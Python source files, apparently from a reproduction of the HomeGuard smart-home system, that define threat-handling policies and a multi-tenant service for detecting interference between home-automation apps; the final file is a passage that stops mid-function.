  :class:`~repro.service.schemas.DecisionRequest` arrives, which is
  exactly the paper's interactive flow
  (:class:`InteractivePolicy` always defers).

Policies see the *live* review (full :class:`~repro.detector.types
.Threat` objects with rules and witnesses), not the wire form, so a
custom policy can dispatch on anything detection knows.
"""

from __future__ import annotations

from typing import Mapping

from repro.detector.types import Threat, ThreatType
from repro.monitor.rules import ThreatEvidence, threat_key
from repro.service.home import InstallDecision, InstallReview

# Default severity ranking over the Table I threat classes, low to
# high.  Condition/trigger interference (an app merely influencing
# another's trigger or condition) ranks below action interference (two
# apps fighting over one actuator), and chains — which the user never
# saw as a single pair — rank highest.  Policies accept an override
# map, so the ranking is a default, not a commitment.
DEFAULT_SEVERITY: dict[ThreatType, int] = {
    ThreatType.ENABLING_CONDITION: 1,
    ThreatType.COVERT_TRIGGERING: 2,
    ThreatType.DISABLING_CONDITION: 2,
    ThreatType.SELF_DISABLING: 3,
    ThreatType.LOOP_TRIGGERING: 3,
    ThreatType.ACTUATOR_RACE: 4,
    ThreatType.GOAL_CONFLICT: 4,
    ThreatType.CHAINED: 5,
}


class HandlingPolicy:
    """Decides an install session's outcome right after detection."""

    name = "abstract"

    def decide(self, review: InstallReview) -> InstallDecision | None:
        """An automatic verdict, or ``None`` to leave the session
        pending for the tenant's one-time decision."""
        raise NotImplementedError

    def decide_with_evidence(
        self,
        review: InstallReview,
        evidence: Mapping[str, ThreatEvidence],
    ) -> InstallDecision | None:
        """The evidence-aware entry point the service calls
        (DESIGN.md §16): ``evidence`` maps each predicted threat's
        :func:`~repro.monitor.rules.threat_key` to what the runtime
        monitor has observed about it.  Evidence-unaware policies
        ignore it — the default delegates to :meth:`decide`, so every
        pre-monitor policy keeps its exact behavior."""
        return self.decide(review)

    def __repr__(self) -> str:
        return f"{type(self).__name__}()"


class InteractivePolicy(HandlingPolicy):
    """The paper's user-decision flow: never decide automatically.

    Every session stays pending until a
    :class:`~repro.service.schemas.DecisionRequest` arrives; applied
    decisions carry ``decided_by=None``, so the persisted review
    history is byte-identical to the pre-service ``HomeGuardApp``
    flow.  This is the default policy."""

    name = "interactive"

    def decide(self, review: InstallReview) -> InstallDecision | None:
        return None


class AutoDenyPolicy(HandlingPolicy):
    """Zero-tolerance tenant: keep clean installs, delete anything
    that raised a threat or completed a chain."""

    name = "auto-deny"

    def decide(self, review: InstallReview) -> InstallDecision | None:
        if review.clean:
            return InstallDecision.KEEP
        return InstallDecision.DELETE


class SeverityThresholdPolicy(HandlingPolicy):
    """Keep installs whose worst threat stays below a severity line.

    Threats are ranked via ``severity`` (default
    :data:`DEFAULT_SEVERITY`); an install whose worst rank is below
    ``threshold`` is kept automatically.  At or above the line the
    policy applies ``above`` — default ``DELETE`` — or, with
    ``above=None``, defers to the user (escalation: only the risky
    installs interrupt a human)."""

    name = "severity-threshold"

    def __init__(
        self,
        threshold: int = 4,
        above: InstallDecision | None = InstallDecision.DELETE,
        severity: dict[ThreatType, int] | None = None,
    ) -> None:
        self.threshold = threshold
        self.above = above
        self.severity = dict(
            DEFAULT_SEVERITY if severity is None else severity
        )

    def worst(self, review: InstallReview) -> int:
        """The review's highest severity rank (0 when clean; unknown
        threat types rank at the top — fail closed)."""
        top = max(self.severity.values(), default=0) + 1
        return max(
            (
                self.severity.get(threat.type, top)
                for threat in (*review.threats, *review.chains)
            ),
            default=0,
        )

    def decide(self, review: InstallReview) -> InstallDecision | None:
        if self.worst(review) < self.threshold:
            return InstallDecision.KEEP
        return self.above

    def __repr__(self) -> str:
        return (
            f"SeverityThresholdPolicy(threshold={self.threshold}, "
            f"above={self.above})"
        )


class ChainedPolicy(HandlingPolicy):
    """Compose policies: the first non-``None`` verdict wins, and a
    fully undecided chain defers to the user.  E.g. auto-keep the
    obviously safe, auto-deny the obviously dangerous, and escalate
    the middle band::

        ChainedPolicy(
            SeverityThresholdPolicy(threshold=3, above=None),
            SeverityThresholdPolicy(threshold=5),
        )
    """

    name = "chained"

    def __init__(self, *policies: HandlingPolicy) -> None:
        self.policies = tuple(policies)

    def decide(self, review: InstallReview) -> InstallDecision | None:
        for policy in self.policies:
            verdict = policy.decide(review)
            if verdict is not None:
                return verdict
        return None

    def decide_with_evidence(
        self,
        review: InstallReview,
        evidence: Mapping[str, ThreatEvidence],
    ) -> InstallDecision | None:
        for policy in self.policies:
            verdict = policy.decide_with_evidence(review, evidence)
            if verdict is not None:
                return verdict
        return None

    def __repr__(self) -> str:
        inner = ", ".join(repr(policy) for policy in self.policies)
        return f"ChainedPolicy({inner})"


class EvidencePolicy(HandlingPolicy):
    """Revise a :class:`SeverityThresholdPolicy`'s verdicts with the
    runtime monitor's observed evidence (DESIGN.md §16).

    The static severity ranking is a *prediction*; the monitor reports
    which predictions actually fired.  This wrapper recomputes each
    threat's effective severity before applying the inner threshold:

    * **escalate**: a threat with at least one ``confirmed``
      observation gains ``escalate_by`` ranks — a predicted-and-seen
      interference is more dangerous than a predicted one;
    * **downgrade**: a threat whose prediction was ``contradicted``
      (the interfered rule demonstrably still acts), or that has been
      watched for ``unconfirmed_after`` event-time seconds without a
      single confirmation, loses ``downgrade_by`` ranks — the proposal
      path for long-unconfirmed static verdicts.

    ``decided_by`` provenance: sessions this policy decides persist
    with the composite name ``evidence+<inner name>``, so a review's
    history shows the verdict was evidence-revised.  Without any
    evidence (no monitor traffic yet) every verdict is byte-identical
    to the inner policy's.
    """

    def __init__(
        self,
        inner: SeverityThresholdPolicy | None = None,
        *,
        escalate_by: int = 2,
        downgrade_by: int = 1,
        unconfirmed_after: float = 7 * 86400.0,
    ) -> None:
        self.inner = SeverityThresholdPolicy() if inner is None else inner
        self.escalate_by = int(escalate_by)
        self.downgrade_by = int(downgrade_by)
        self.unconfirmed_after = float(unconfirmed_after)
        self.name = f"evidence+{self.inner.name}"

    def effective_severity(
        self, threat: Threat, evidence: Mapping[str, ThreatEvidence]
    ) -> int:
        top = max(self.inner.severity.values(), default=0) + 1
        base = self.inner.severity.get(threat.type, top)
        seen = evidence.get(threat_key(threat))
        if seen is None:
            return base
        if seen.confirmed:
            return base + self.escalate_by
        if seen.contradicted:
            return max(0, base - self.downgrade_by)
        if seen.watch_seconds >= self.unconfirmed_after:
            return max(0, base - self.downgrade_by)
        return base

    def worst_with_evidence(
        self,
        review: InstallReview,
        evidence: Mapping[str, ThreatEvidence],
    ) -> int:
        return max(
            (
                self.effective_severity(threat, evidence)
                for threat in (*review.threats, *review.chains)
            ),
            default=0,
        )

    def proposals(
        self,
        review: InstallReview,
        evidence: Mapping[str, ThreatEvidence],
    ) -> list[str]:
        """Human-readable revision proposals for the review's threats —
        what changed versus the static ranking and why."""
        top = max(self.inner.severity.values(), default=0) + 1
        notes: list[str] = []
        for threat in (*review.threats, *review.chains):
            key = threat_key(threat)
            seen = evidence.get(key)
            if seen is None:
                continue
            base = self.inner.severity.get(threat.type, top)
            effective = self.effective_severity(threat, evidence)
            if effective > base:
                notes.append(
                    f"escalate {key}: severity {base} -> {effective} "
                    f"({seen.confirmed} confirmed observation(s))"
                )
            elif effective < base and seen.contradicted:
                notes.append(
                    f"downgrade {key}: severity {base} -> {effective} "
                    f"(prediction contradicted {seen.contradicted}x)"
                )
            elif effective < base:
                notes.append(
                    f"downgrade {key}: severity {base} -> {effective} "
                    f"(unconfirmed for {seen.watch_seconds:.0f}s)"
                )
        return notes

    def decide(self, review: InstallReview) -> InstallDecision | None:
        return self.inner.decide(review)

    def decide_with_evidence(
        self,
        review: InstallReview,
        evidence: Mapping[str, ThreatEvidence],
    ) -> InstallDecision | None:
        if self.worst_with_evidence(review, evidence) < self.inner.threshold:
            return InstallDecision.KEEP
        return self.inner.above

    def __repr__(self) -> str:
        return (
            f"EvidencePolicy({self.inner!r}, "
            f"escalate_by={self.escalate_by}, "
            f"downgrade_by={self.downgrade_by})"
        )
