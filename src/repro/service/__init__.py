"""Multi-tenant HomeGuard service API (DESIGN.md §11).

The canonical public surface of the reproduction:

* :class:`HomeGuardService` — N tenant homes over one shared backend
  extractor, one shared solver dispatcher, per-home persistent stores;
* typed wire schemas (:class:`InstallRequest`, :class:`AuditRequest`,
  :class:`DecisionRequest` in; :class:`InstallSession`,
  :class:`ThreatReport`, :class:`ThreatRecord` out) — frozen,
  versioned, JSON-round-trippable;
* the :class:`ServiceError` taxonomy with stable machine-readable
  codes;
* pluggable threat handling (:class:`HandlingPolicy`:
  :class:`InteractivePolicy` — the paper's one-time user decision —
  plus :class:`AutoDenyPolicy`, :class:`SeverityThresholdPolicy`,
  :class:`ChainedPolicy`).

``repro.HomeGuard`` and ``repro.frontend.app.HomeGuardApp`` remain as
backward-compatible shims over a single-home service.
"""

from repro.service.errors import (
    WIRE_SCHEMA_VERSION,
    DuplicateHomeError,
    InvalidRequestError,
    SchemaMismatchError,
    ServiceError,
    SessionDecidedError,
    UnknownAppError,
    UnknownHomeError,
    UnknownSessionError,
)
from repro.service.home import (
    InstallDecision,
    InstalledDevice,
    InstallReview,
    TenantHome,
)
from repro.service.policies import (
    AutoDenyPolicy,
    ChainedPolicy,
    HandlingPolicy,
    InteractivePolicy,
    SeverityThresholdPolicy,
)
from repro.service.schemas import (
    AuditRequest,
    DecisionRequest,
    InstallRequest,
    InstallSession,
    ThreatRecord,
    ThreatReport,
    decode_wire,
    schema_manifest,
)
from repro.service.service import HomeGuardService

__all__ = [
    "WIRE_SCHEMA_VERSION",
    "AuditRequest",
    "AutoDenyPolicy",
    "ChainedPolicy",
    "DecisionRequest",
    "DuplicateHomeError",
    "HandlingPolicy",
    "HomeGuardService",
    "InstallDecision",
    "InstallRequest",
    "InstallReview",
    "InstallSession",
    "InstalledDevice",
    "InteractivePolicy",
    "InvalidRequestError",
    "SchemaMismatchError",
    "ServiceError",
    "SessionDecidedError",
    "SeverityThresholdPolicy",
    "TenantHome",
    "ThreatRecord",
    "ThreatReport",
    "UnknownAppError",
    "UnknownHomeError",
    "UnknownSessionError",
    "decode_wire",
    "schema_manifest",
]
