"""Multi-tenant HomeGuard service API (DESIGN.md §11).

The canonical public surface of the reproduction:

* :class:`HomeGuardService` — N tenant homes over one shared backend
  extractor, one shared solver dispatcher, per-home persistent stores;
* typed wire schemas (:class:`InstallRequest`, :class:`AuditRequest`,
  :class:`DecisionRequest` in; :class:`InstallSession`,
  :class:`ThreatReport`, :class:`ThreatRecord` out) — frozen,
  versioned, JSON-round-trippable;
* the :class:`ServiceError` taxonomy with stable machine-readable
  codes;
* pluggable threat handling (:class:`HandlingPolicy`:
  :class:`InteractivePolicy` — the paper's one-time user decision —
  plus :class:`AutoDenyPolicy`, :class:`SeverityThresholdPolicy`,
  :class:`ChainedPolicy`, and the monitor-fed :class:`EvidencePolicy`).

The socket front end lives in :mod:`repro.service.transport`
(DESIGN.md §13): ``FleetServer`` / ``serve_background`` put a
stdlib-only HTTP + JSON-RPC server — with per-tenant quotas, admission
control and weighted-fair scheduling — in front of one service;
``FleetClient`` / ``AsyncFleetClient`` speak the same wire records and
raise the same typed errors across the socket.

``repro.HomeGuard`` and ``repro.frontend.app.HomeGuardApp`` remain as
backward-compatible shims over a single-home service.
"""

from repro.service.errors import (
    WIRE_SCHEMA_VERSION,
    DuplicateHomeError,
    InvalidRequestError,
    QuotaExceededError,
    RequestTooLargeError,
    SchemaMismatchError,
    ServiceError,
    SessionDecidedError,
    UnavailableError,
    UnknownAppError,
    UnknownHomeError,
    UnknownSessionError,
)
from repro.service.home import (
    InstallDecision,
    InstalledDevice,
    InstallReview,
    TenantHome,
)
from repro.service.policies import (
    AutoDenyPolicy,
    ChainedPolicy,
    EvidencePolicy,
    HandlingPolicy,
    InteractivePolicy,
    SeverityThresholdPolicy,
)
from repro.service.schemas import (
    AuditRequest,
    DecisionRequest,
    DetectionStatsRecord,
    InstallRequest,
    InstallSession,
    MonitorEventRequest,
    ObservationRecord,
    ServerStatusRecord,
    ThreatRecord,
    ThreatReport,
    decode_wire,
    schema_manifest,
)
from repro.service.service import HomeGuardService

__all__ = [
    "WIRE_SCHEMA_VERSION",
    "AuditRequest",
    "AutoDenyPolicy",
    "ChainedPolicy",
    "DecisionRequest",
    "DetectionStatsRecord",
    "DuplicateHomeError",
    "EvidencePolicy",
    "HandlingPolicy",
    "HomeGuardService",
    "InstallDecision",
    "InstallRequest",
    "InstallReview",
    "InstallSession",
    "InstalledDevice",
    "InteractivePolicy",
    "InvalidRequestError",
    "MonitorEventRequest",
    "ObservationRecord",
    "QuotaExceededError",
    "RequestTooLargeError",
    "SchemaMismatchError",
    "ServerStatusRecord",
    "ServiceError",
    "SessionDecidedError",
    "SeverityThresholdPolicy",
    "TenantHome",
    "UnavailableError",
    "ThreatRecord",
    "ThreatReport",
    "UnknownAppError",
    "UnknownHomeError",
    "UnknownSessionError",
    "decode_wire",
    "schema_manifest",
]
