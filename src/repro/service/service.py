"""The multi-tenant HomeGuard service façade (DESIGN.md §11).

:class:`HomeGuardService` is the canonical public API: N tenant homes
served over **one** shared backend rule extractor (the offline phase
runs once per app, not once per home), **one** shared
:class:`~repro.constraints.dispatch.SolverDispatcher` (a single worker
pool absorbs every home's solve batches), and one shared capability
registry — with per-home :class:`~repro.detector.store.DetectionStore`
directories under a common store root, so each home's snapshot is
byte-identical to what a dedicated single-home deployment would have
written.

Tenants speak the typed wire schemas of :mod:`repro.service.schemas`
(``InstallRequest`` in, ``InstallSession``/``ThreatReport`` out,
:class:`~repro.service.errors.ServiceError` on failure) and configure
threat *handling* per home via :mod:`repro.service.policies` — the
default :class:`~repro.service.policies.InteractivePolicy` reproduces
the paper's one-time user decision, while ``AutoDenyPolicy`` /
``SeverityThresholdPolicy`` / ``ChainedPolicy`` handle threats without
a human in the loop.

The legacy ``HomeGuard`` / ``HomeGuardApp`` classes are shims over a
single-home service; results (threats, caches, store bytes) are
identical on either surface.
"""

from __future__ import annotations

import json
import threading
from pathlib import Path
from typing import Iterable

from repro.capabilities import registry as capability_registry
from repro.config.messaging import Transport
from repro.config.uri import ConfigPayload
from repro.constraints.dispatch import SolverDispatcher, make_dispatcher
from repro.constraints.solvecache import SolveCacheBackend, make_solve_cache
from repro.corpus.model import CorpusApp
from repro.detector.storage import SQLITE_STORE_FILE, SQLiteStoreBackend
from repro.rules.extractor import ExtractionError, RuleExtractor
from repro.rules.model import RuleSet
from repro.service.errors import (
    DuplicateHomeError,
    InvalidRequestError,
    SessionDecidedError,
    UnknownAppError,
    UnknownHomeError,
    UnknownSessionError,
)
from repro.service.home import (
    InstallDecision,
    InstalledDevice,
    InstallReview,
    TenantHome,
)
from repro.service.policies import HandlingPolicy, InteractivePolicy
from repro.service.schemas import (
    SESSION_DECIDED,
    SESSION_PENDING,
    AuditRequest,
    DecisionRequest,
    DetectionStatsRecord,
    InstallRequest,
    InstallSession,
    MonitorEventRequest,
    ObservationRecord,
    ThreatReport,
)


class _LiveSession:
    """Service-side session state: the wire view plus the live review
    the one-time decision will be applied to.  ``review`` and ``home``
    are dropped once the session is decided — only pending sessions
    need the live threat/rule object graph (and only they pin their
    home resident, see :meth:`HomeGuardService._evictable`); a
    long-running service must not hold one per install forever."""

    __slots__ = ("wire", "review", "home")

    def __init__(
        self,
        wire: InstallSession,
        review: InstallReview | None,
        home: TenantHome | None,
    ) -> None:
        self.wire = wire
        self.review = review
        self.home = home


class _HomeRecord:
    """Registry entry for one created home: everything needed to
    re-hydrate an evicted :class:`TenantHome` from its store."""

    __slots__ = ("store_path", "policy", "store_backend")

    def __init__(self, store_path, policy, store_backend) -> None:
        self.store_path = store_path
        self.policy = policy
        self.store_backend = store_backend


class HomeGuardService:
    """Serve CAI detection and threat handling for many tenant homes.

    Parameters
    ----------
    extractor:
        The shared backend :class:`RuleExtractor` (one offline
        extraction serves every home).  A fresh one by default.
    workers:
        The shared solver-dispatch setting, as accepted by
        :func:`~repro.constraints.dispatch.make_dispatcher` (``"auto"``
        by default; ``None`` = inline solves).  One dispatcher instance
        is created here and shared by every home's pipeline — with a
        pooled backend, one worker pool absorbs the whole fleet's solve
        batches.
    store_root:
        Optional directory; each created home persists to
        ``store_root/<home_id>`` (save-on-commit, DESIGN.md §8).  A
        home can also pin an explicit ``store_path``.
    policy:
        The default :class:`HandlingPolicy` for homes that don't set
        their own (:class:`InteractivePolicy` if omitted).
    solve_cache:
        Optional shared cross-tenant solve cache (DESIGN.md §12), as
        accepted by :func:`~repro.constraints.solvecache
        .make_solve_cache`: a backend instance, ``"lru[:N]"``,
        ``"sqlite:<path>"``, or ``None`` (the default — no sharing).
        One backend is created here and consulted by every home's
        engine, so a formula any tenant solved is never solved again
        fleet-wide; verdicts are keyed by content-addressed formula
        fingerprints, never by rule source or home identity.
    store_backend:
        Storage engine for the per-home detection stores (DESIGN.md
        §14): ``None``/``"dir"`` for the directory-of-JSON layout,
        ``"sqlite"`` to pack the whole fleet into one WAL-mode
        database under ``store_root`` (``store_root/store.sqlite``;
        every home gets a key-namespace view over one shared
        connection), ``"sqlite:<file>"`` to name the database
        explicitly, or a :class:`~repro.detector.storage
        .SQLiteStoreBackend` instance to share with another
        controller.
    store_delta:
        ``True`` (default) appends per-commit delta records to each
        home's store journal; ``False`` rewrites the full snapshot on
        every decision (the eager reference path — byte-identical
        final state, O(store) commit cost).
    max_resident_homes:
        Optional bound on *resident* tenant homes (lazy shard
        loading, DESIGN.md §14).  Created homes are registered
        durably; beyond the bound the least-recently-used home with a
        store is evicted from memory and transparently re-hydrated
        from its store on next touch — exactly a warm restart, so
        threats, caches and store bytes are unchanged.  Homes without
        a store, homes with queued payloads, and homes with pending
        sessions are never evicted.  ``None`` (default) keeps every
        home resident.
    """

    #: Decided sessions kept queryable before the oldest are evicted
    #: (pending sessions are never evicted — they still await their
    #: one-time decision).  Bounds service memory under sustained
    #: install traffic.
    max_decided_sessions = 4096

    def __init__(
        self,
        extractor: RuleExtractor | None = None,
        workers: int | str | SolverDispatcher | None = "auto",
        store_root: str | Path | None = None,
        policy: HandlingPolicy | None = None,
        solve_cache: str | SolveCacheBackend | None = None,
        store_backend: "str | SQLiteStoreBackend | None" = None,
        store_delta: bool = True,
        max_resident_homes: int | None = None,
    ) -> None:
        self.extractor = extractor if extractor is not None else RuleExtractor()
        self.dispatcher = make_dispatcher(workers)
        self.solve_cache = make_solve_cache(solve_cache)
        self.store_root = None if store_root is None else Path(store_root)
        self.default_policy = policy if policy is not None else InteractivePolicy()
        self.store_backend = store_backend
        # ``store_delta=False`` opts the fleet out of journaled delta
        # commits: every decision rewrites the home's full snapshot
        # (the pre-§14 behavior — the byte-equality reference arm).
        self.store_delta = store_delta
        self.max_resident_homes = max_resident_homes
        # One fleet-wide store database (when configured): every home
        # persists through a namespace view over this single backend —
        # one file, one connection, shareable across controllers.
        self._fleet_backend: SQLiteStoreBackend | None = None
        if isinstance(store_backend, SQLiteStoreBackend):
            self._fleet_backend = store_backend
        elif isinstance(store_backend, str):
            name, _, arg = store_backend.strip().partition(":")
            if name.lower() == "sqlite":
                if arg:
                    self._fleet_backend = SQLiteStoreBackend(Path(arg))
                elif self.store_root is not None:
                    self._fleet_backend = SQLiteStoreBackend(
                        self.store_root / SQLITE_STORE_FILE
                    )
                # else: the spec passes through per home (each home's
                # store_path gets its own database file).
        # The capability registry is process-global by design (paper
        # Appendix A); expose it so tenants introspect one shared
        # catalogue instead of importing module internals.
        self.capabilities = capability_registry
        # Every created home (durable identity) vs. the homes currently
        # *resident* in memory.  ``_homes`` doubles as the LRU: dicts
        # preserve insertion order, and a touch reinserts at the end.
        self._registry: dict[str, _HomeRecord] = {}
        self._homes: dict[str, TenantHome] = {}
        # home_id -> count of its pending (undecided) sessions; a home
        # with pending sessions is pinned resident (the live review
        # object graph cannot be re-hydrated from the store).
        self._pending_homes: dict[str, int] = {}
        self._sessions: dict[str, _LiveSession] = {}
        self._decided_order: list[str] = []
        self._session_seq = 0
        # app name -> (owner home_ids | None for public, source text).
        # Public entries come from preload()/extract(); owned entries
        # from custom-source installs — tenants outside the owner set
        # cannot install (or read the rules of) a custom app.  A home
        # that resubmits the byte-identical source joins the owners.
        self._sources: dict[str, tuple[set[str] | None, str]] = {}
        # Service-lifetime monitor totals (DESIGN.md §16).  Per-home
        # monitor counters live in each home's pipeline stats and reset
        # when the home is evicted; these accumulate the deltas at
        # ingest time, so the fleet-wide ``status`` view survives
        # eviction — the same pattern as the dispatcher's fault totals.
        self._monitor_events_total = 0
        self._monitor_observations_total = 0
        self._close_lock = threading.Lock()

    # ------------------------------------------------------------------
    # Tenant home lifecycle

    def create_home(
        self,
        home_id: str,
        store_path: str | Path | None = None,
        policy: HandlingPolicy | None = None,
    ) -> TenantHome:
        """Register a tenant home and return its live state handle.

        ``store_path`` overrides the ``store_root/<home_id>`` default;
        ``policy`` overrides the service default for this home."""
        if not home_id:
            raise InvalidRequestError("home_id is empty")
        if home_id in self._registry:
            raise DuplicateHomeError(
                f"home {home_id!r} already exists", home_id=home_id
            )
        if store_path is None and self.store_root is not None:
            store_path = self.store_root / home_id
        record = _HomeRecord(
            store_path, policy, self._store_backend_for(home_id, store_path)
        )
        home = self._hydrate(home_id, record, load=False)
        self._registry[home_id] = record
        self._homes[home_id] = home
        self._evict_over_limit(keep=home_id)
        return home

    def _store_backend_for(self, home_id: str, store_path):
        """The storage-engine setting for one home: a namespace view of
        the fleet database when one is configured, the raw spec (e.g. a
        per-home ``"sqlite"``) otherwise."""
        if store_path is None:
            return None
        if self._fleet_backend is not None:
            return self._fleet_backend.namespace(home_id)
        return self.store_backend

    def _hydrate(
        self, home_id: str, record: _HomeRecord, load: bool
    ) -> TenantHome:
        """Build a live :class:`TenantHome` from its registry record,
        warm-starting it from its store when ``load`` is set (the
        eviction-recovery path — byte-equivalent to a warm restart)."""
        home = TenantHome(
            home_id,
            self.extractor,
            store_path=record.store_path,
            dispatcher=self.dispatcher,
            policy=record.policy,
            shared_cache=self.solve_cache,
            store_backend=record.store_backend,
            store_delta=self.store_delta,
        )
        if load and home.store is not None:
            home.load_store()
        return home

    def _evictable(self, home: TenantHome) -> bool:
        """Only homes whose whole state is re-hydratable may leave
        memory: a store to come back from, no queued payloads, and no
        pending sessions (their live reviews exist nowhere else)."""
        return (
            home.store is not None
            and not home._pending
            and not self._pending_homes.get(home.home_id)
        )

    def _evict_over_limit(self, keep: str | None = None) -> None:
        """Drop least-recently-used evictable homes until the resident
        count honours ``max_resident_homes`` (``keep`` is exempt: the
        home being touched right now must stay)."""
        limit = self.max_resident_homes
        if limit is None:
            return
        limit = max(1, int(limit))
        while len(self._homes) > limit:
            victim = None
            for home_id, home in self._homes.items():
                if home_id == keep:
                    continue
                if self._evictable(home):
                    victim = home_id
                    break
            if victim is None:
                return  # every candidate is pinned; stay over bound
            del self._homes[victim]

    def home(self, home_id: str) -> TenantHome:
        home = self._homes.get(home_id)
        if home is not None:
            if self.max_resident_homes is not None:
                # LRU touch: reinsert at the end of the resident order.
                del self._homes[home_id]
                self._homes[home_id] = home
            return home
        record = self._registry.get(home_id)
        if record is None:
            raise UnknownHomeError(
                f"no home {home_id!r}; create_home() it first",
                home_id=home_id,
            )
        home = self._hydrate(home_id, record, load=True)
        self._homes[home_id] = home
        self._evict_over_limit(keep=home_id)
        return home

    def homes(self) -> list[str]:
        return sorted(self._registry)

    def home_count(self) -> int:
        """Homes registered with the service (resident or not)."""
        return len(self._registry)

    def resident_count(self) -> int:
        """Homes currently hydrated in memory (≤ ``home_count()``;
        bounded by ``max_resident_homes`` when set)."""
        return len(self._homes)

    def remove_home(self, home_id: str) -> None:
        """Forget a home (its persisted store, if any, stays on disk);
        pending sessions for the home are dropped."""
        if home_id not in self._registry:
            raise UnknownHomeError(
                f"no home {home_id!r}; create_home() it first",
                home_id=home_id,
            )
        del self._registry[home_id]
        self._homes.pop(home_id, None)
        self._pending_homes.pop(home_id, None)
        self._sessions = {
            sid: live
            for sid, live in self._sessions.items()
            if live.wire.home_id != home_id
        }

    # ------------------------------------------------------------------
    # Shared offline phase

    def preload(self, apps: Iterable[CorpusApp]) -> None:
        """Extract rules for public-store apps ahead of time — once,
        for every tenant."""
        for app in apps:
            self.extractor.extract(app.source, app.name)
            self._sources[app.name] = (None, app.source)

    def extract(self, source: str, app_name: str) -> RuleSet:
        """Extract (and publish to every tenant) one app's rules."""
        ruleset = self.extractor.extract(source, app_name)
        self._sources[ruleset.app_name] = (None, source)
        return ruleset

    # ------------------------------------------------------------------
    # Devices and messaging

    def register_device(
        self, home_id: str, label: str, type_name: str
    ) -> InstalledDevice:
        return self.home(home_id).register_device(label, type_name)

    def connect_transport(self, home_id: str, transport: Transport) -> None:
        """Route a messaging transport's configuration URIs into the
        home's pending queue (paper §VII-B); process them with
        :meth:`review_pending`."""
        transport.connect(self.home(home_id).receive_message)

    def review_pending(
        self, home_id: str, device_types: dict[str, str] | None = None
    ) -> list[InstallSession]:
        """Turn queued configuration payloads into install sessions
        (each reviewed and run through the home's handling policy).

        Payloads naming an app the home cannot see — never extracted,
        or another tenant's custom app — raise
        :class:`~repro.service.errors.UnknownAppError`.  The offending
        payload is dropped and the rest of the queue stays intact;
        sessions already opened for earlier payloads of this call are
        listed in the error's ``details["opened_sessions"]`` (they
        remain queryable via :meth:`session` / :meth:`sessions`), so a
        caller never loses a session id to a later bad payload."""
        home = self.home(home_id)
        sessions: list[InstallSession] = []
        while home._pending:
            payload = home._pending.pop(0)
            try:
                self._check_visibility(home, payload.app_name)
                review = home.review_installation(payload, device_types)
            except (UnknownAppError, LookupError) as exc:
                raise UnknownAppError(
                    str(exc),
                    app_name=payload.app_name,
                    opened_sessions=[s.session_id for s in sessions],
                ) from exc
            sessions.append(self._open_session(home, review))
        return sessions

    # ------------------------------------------------------------------
    # Install / decide / audit

    @staticmethod
    def _rules_fingerprint(ruleset: RuleSet) -> str:
        from repro.rules.serialization import rule_to_json

        return json.dumps(
            [rule_to_json(rule) for rule in ruleset.rules],
            sort_keys=True, default=str,
        )

    def _unknown_app(self, app_name: str) -> UnknownAppError:
        return UnknownAppError(
            f"no rules for app {app_name!r}; preload() it or send the "
            "source with the request",
            app_name=app_name,
        )

    def _check_visibility(self, home: TenantHome, app_name: str) -> None:
        """Custom apps are private to the home(s) that submitted their
        source: another tenant naming one (without the source) gets the
        same UnknownAppError a nonexistent app would — no existence
        leak, and no reviewing tenant B against tenant A's rules."""
        owners = self._sources.get(app_name, (None,))[0]
        if owners is not None and home.home_id not in owners:
            raise self._unknown_app(app_name)

    def _ensure_rules(self, home: TenantHome, request: InstallRequest) -> None:
        existing = self.extractor.rules_of(request.app_name)
        if request.source is not None:
            record = self._sources.get(request.app_name)
            if record is not None:
                # Byte-identical resubmission (idempotent retries, or a
                # tenant who evidently has the source): the submitting
                # home joins the owner set, so its later no-source
                # requests (reconfigures, transport payloads) resolve.
                if record[1] == request.source:
                    if record[0] is not None:
                        record[0].add(home.home_id)
                    return
                raise InvalidRequestError(
                    f"app name {request.app_name!r} already names a "
                    "different app on this service; submit the custom "
                    "source under a unique name",
                    app_name=request.app_name,
                )
            try:
                if existing is None:
                    self.extractor.extract(request.source, request.app_name)
                    self._sources[request.app_name] = (
                        {home.home_id}, request.source,
                    )
                    return
                # The extractor was populated outside the service's
                # bookkeeping (e.g. a caller-supplied extractor with a
                # warm cache).  Extraction is deterministic, so compare
                # the loss-free rule serializations to tell an innocent
                # resubmission from a name collision.
                submitted = RuleExtractor().extract(
                    request.source, request.app_name
                )
            except ExtractionError as exc:
                raise InvalidRequestError(
                    f"cannot extract rules for {request.app_name!r}: {exc}",
                    app_name=request.app_name,
                ) from exc
            if self._rules_fingerprint(existing) != self._rules_fingerprint(
                submitted
            ):
                raise InvalidRequestError(
                    f"app name {request.app_name!r} already names a "
                    "different app on this service; submit the custom "
                    "source under a unique name",
                    app_name=request.app_name,
                )
            self._sources[request.app_name] = (None, request.source)
            return
        self._check_visibility(home, request.app_name)
        if existing is None and home.rule_recorder.rules_of(
            request.app_name
        ) is None:
            raise self._unknown_app(request.app_name)

    def install(self, request: InstallRequest) -> InstallSession:
        """Install an app into a tenant home.

        Binds the request's device inputs against the home's registry,
        records the configuration, runs detection against the home's
        installed history, and opens an install session.  The home's
        handling policy then either decides on the spot (session comes
        back ``decided``, with ``decided_by`` naming the policy) or
        defers to the tenant (``pending`` — answer with
        :meth:`decide`)."""
        home = self.home(request.home_id)
        self._ensure_rules(home, request)
        bound, types = home.bind_inputs(request.devices)
        payload = ConfigPayload(
            app_name=request.app_name,
            devices=bound,
            values={k: str(v) for k, v in request.values.items()},
        )
        review = home.review_installation(payload, device_types=types)
        return self._open_session(home, review)

    def _remember_decided(self, session_id: str) -> None:
        """Track a decided session for bounded retention: beyond
        ``max_decided_sessions`` the oldest decided sessions are
        evicted (later queries raise UnknownSessionError).  Pending
        sessions are never evicted."""
        self._decided_order.append(session_id)
        while len(self._decided_order) > self.max_decided_sessions:
            oldest = self._decided_order.pop(0)
            self._sessions.pop(oldest, None)

    def _open_session(
        self, home: TenantHome, review: InstallReview
    ) -> InstallSession:
        self._session_seq += 1
        session_id = f"{home.home_id}/s{self._session_seq:06d}"
        report = ThreatReport.from_review(home.home_id, review)
        policy = home.policy if home.policy is not None else self.default_policy
        # Evidence-aware entry point (DESIGN.md §16): the home's
        # persisted monitor observations revise evidence-aware
        # policies' verdicts; every pre-monitor policy's default
        # implementation delegates straight to ``decide``.
        verdict = policy.decide_with_evidence(review, home.evidence())
        if verdict is None:
            wire = InstallSession(
                session_id=session_id,
                home_id=home.home_id,
                app_name=review.app_name,
                status=SESSION_PENDING,
                report=report,
            )
            self._sessions[session_id] = _LiveSession(wire, review, home)
            # Pin the home resident until the decision arrives: the
            # pending review's threat/rule graph lives only here.
            self._pending_homes[home.home_id] = (
                self._pending_homes.get(home.home_id, 0) + 1
            )
            return wire
